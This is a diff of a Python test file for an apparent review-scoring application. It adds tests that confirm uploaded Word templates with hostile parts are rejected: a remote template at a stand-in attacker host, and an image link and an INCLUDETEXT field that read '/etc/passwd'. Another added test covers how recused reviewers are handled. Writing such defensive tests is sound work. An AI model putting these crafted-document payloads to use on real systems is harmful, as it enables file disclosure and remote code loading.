@@ -1,7 +1,9 @@
 """What an attacker found at the officer's desk: numbers that confirmed another thing, and what a recused person was sent."""
 
 import zipfile
+from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
+from datetime import timedelta
 from typing import Any
 
 import pytest
@@ -16,7 +18,8 @@ from storage.columns import JSON
 from storage.relations import ACT, ANNOUNCEMENT, ENTRY, OUTBOX, PERSON, REVIEW_EVENT, ROUND
 from tests.brought import BROUGHT
 from tests.official import saved
-from tests.season import Season
+from tests.season import CLOSES, Season
+from tests.test_hostile_tables import changed as rewritten
 from tests.test_requesting import cells, followed, office
 from tests.test_turn import broken
 
@@ -244,3 +247,41 @@ def test_other_scores_of_the_same_sum_are_not_what_was_confirmed(office: Season)
     said(office, "陈评审", "评审 示例学会 第1项", "7分 少一场", "评审 示例学会 第2项", "1分 有一次研讨")
     assert "看过再确认" in said(office, "staff", "8")
     assert rows(office, sa.select(ENTRY.c.id).where(ENTRY.c.finalized_at.is_not(None))) == []
+
+
+def reaching(part: str, change: Callable[[bytes], bytes]) -> bytes:
+    return rewritten(paper("{{学会}}"), part, change)
+
+
+def related(kind: str, target: str) -> Callable[[bytes], bytes]:
+    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+    one = f'<Relationship Id="rId99" Type="{base}{kind}" Target="{target}" TargetMode="External"/></Relationships>'
+    return lambda part: part.replace(b"</Relationships>", one.encode())
+
+
+FIELD = b'<w:instrText>INCLUDETEXT "file:///etc/passwd"</w:instrText>'
+
+
+@pytest.mark.parametrize(
+    ("data", "taken"),
+    [
+        (reaching("word/_rels/document.xml.rels", related("attachedTemplate", "http://evil.example/x.dotm")), False),
+        (reaching("word/_rels/document.xml.rels", related("image", "file:///etc/passwd")), False),
+        (reaching("word/document.xml", lambda part: part.replace(b"<w:t>", FIELD + b"<w:t>", 1)), False),
+        (reaching("word/_rels/document.xml.rels", related("hyperlink", "https://zast.example/")), True),
+    ],
+    ids=["template", "image", "field", "hyperlink"],
+)
+def test_a_template_fetches_nothing(office: Season, data: bytes, taken: bool) -> None:
+    given("out.docx", data)
+    assert ("已启用" in said(office, "staff", "模板", files=("out.docx",))) is taken
+
+
+def test_who_is_recused_neither_looks_at_late_words_nor_fills_in(office: Season) -> None:
+    office.now = CLOSES + timedelta(minutes=1)
+    said(office, "赵老师", "第2项 3分", "依据：迟到的秘密")
+    assert "茶叶学会" in said(office, "staff", "逾期")
+    said(office, "staff", "回避 茶叶学会 亲属")
+    said(office, "staff", "逾期")
+    for words in ("1", "算数 茶叶学会 平台故障", "代填 茶叶学会 会话第5项 3分 理由"):
+        assert "您已回避" in said(office, "staff", words)
